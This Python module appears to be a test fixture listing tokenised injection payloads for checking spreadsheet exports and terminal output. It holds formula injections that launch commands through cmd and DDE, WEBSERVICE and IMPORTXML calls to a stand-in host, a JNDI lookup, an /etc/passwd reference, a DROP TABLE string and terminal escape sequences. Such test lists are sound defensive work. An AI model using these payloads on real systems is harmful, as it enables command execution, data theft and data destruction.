"""What do people hide in names, so that a spreadsheet or a terminal does what they want? Each has a
token.
"""

from __future__ import annotations

from typing import Final

_SHAPES: Final = (
    "=1+1+N({t})", "=SUM(1)*{t}", "+1+{t}", "-1+{t}", "@SUM({t})", "=@SUM({t})",
    "=cmd|' /C calc'!{t}", "+cmd|' /C calc'!{t}", "-cmd|' /C calc'!{t}", "@cmd|' /C calc'!{t}", "=MSEXCEL|'\\..\\x'!{t}",
    "-2+3+cmd|' /C calc'!{t}", "=DDE(\"cmd\";\"/C calc\";\"{t}\")", "=HYPERLINK(\"http://x.example/{t}\",\"click\")",
    "=WEBSERVICE(\"http://x.example/{t}\")", "=IMPORTXML(\"http://x.example/{t}\",\"//a\")", "=IMAGE(\"http://x.example/{t}\")",
    "=[x.xlsx]S!A1&\"{t}\"", "='file:///etc/passwd'#$S.A1&\"{t}\"", "=RTD(\"x\",,\"{t}\")", "=CALL(\"kernel32\",\"{t}\")",
    "=PY(\"{t}\")", "{{=1+{t}}}", "＝1+{t}", "＋1+{t}", "－1+{t}", "＠SUM({t})", "−1+{t}", "﹦1+{t}",
    "\t=1+{t}", "\r=1+{t}", "\n=1+{t}", " =1+{t}", "\u00a0=1+{t}", "\u200b=1+{t}", "\ufeff=1+{t}", "\x00=1+{t}", "\x0b=1+{t}",
    "'=1+{t}", "\"=1+{t}\"", "=\"{t}\"", "|calc {t}", "%0A=1+{t}", ";=1+{t}", ",=1+{t}",
    "http://x.example/{t}", "file:///etc/{t}", "javascript:alert({t})", "mailto:{t}@x.example",
    "</t></is></c><c><f>{t}</f></c>", "<script>{t}</script>", "]]>{t}", "&{t};", "&#61;1+{t}", "_x003D_1+{t}", "_x0000_{t}",
    "\x1b[31m{t}", "\x1b]0;{t}\x07", "\x1b]8;;http://x.example/{t}\x1b\\x\x1b]8;;\x1b\\", "\x9b31m{t}", "\x08\x08{t}", "{t}\rgone",
    "\u202e{t}", "\u2066{t}", "[red]{t}[/red]", ":smile: {t}", "{{0}}{t}", "%s%n{t}", "${{jndi:ldap://x/{t}}}", "../../{t}",
    "'; DROP TABLE Deals; -- {t}", "=" * 400 + "{t}", "long {t} " + "x" * 30_000, "too long {t} " + "x" * 40_000, "😀{t}",
)  # fmt: skip
PAYLOADS: Final = tuple(shape.format(t=f"zq{number:02}q") for number, shape in enumerate(_SHAPES))
TOKENS: Final = tuple(f"zq{number:02}q" for number in range(len(_SHAPES)))
STARTS_FORMULA: Final = "=+-@\t\r\n＝＋－＠|%"
